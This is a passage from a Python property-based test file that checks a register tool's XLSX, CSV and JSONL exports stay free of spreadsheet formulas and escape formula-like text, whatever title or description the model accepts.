        assert read_json(tmp_path / "long.json").items[0].options_considered == options


# The property: any text the model accepts exports safely -------------------------------------
_PREFIXES = st.sampled_from(("", *PAYLOADS))
_TEXT = st.one_of(
    texts(),
    st.builds(lambda p, t: p + t, _PREFIXES, texts()),
    st.text(max_size=30),
)


def _formula_free(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >/]", xml)
                assert 't="e"' not in xml
    for _, cell in _workbook_cells(path):
        assert cell.data_type not in ("f", "e")


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(item=item_strategy(), title=_TEXT, description=_TEXT)
def test_any_accepted_text_exports_safely(item: Item, title: str, description: str) -> None:
    refused: ValidationError | None = None
    try:
        item = attrs.evolve(item, title=title, description=description)
    except ValidationError as exc:
        refused = exc
    if refused is not None:
        # Refused clearly, naming the field: an empty title or a character no export holds.
        assert refused.field in ("title", "description")
        return
    with tempfile.TemporaryDirectory() as folder, raidlog.open("memory:", actor="gen") as reg:
        out = Path(folder)
        reg.add(item)
        write_board_pack(reg, out / "p.xlsx")
        _formula_free(out / "p.xlsx")
        assert apply_xlsx(out / "p.xlsx", reg).updated == ()
        write_csv(reg.items(), out / "g.csv")
        header, row = _csv_rows(out / "g.csv", "utf-8-sig")
        (stored,) = reg.items()
        for cell, value in zip(row, flatten(stored, header), strict=True):
            # Text is guarded; numbers written by raidlog ("-3") are numbers, not text.
            if isinstance(value, str):
                assert not starts_like_formula(cell)
                assert cell == ("'" + value if starts_like_formula(value) else value)
        write_jsonl(reg, out / "g.jsonl")
        assert read_json(out / "g.jsonl").items == list(reg.items())
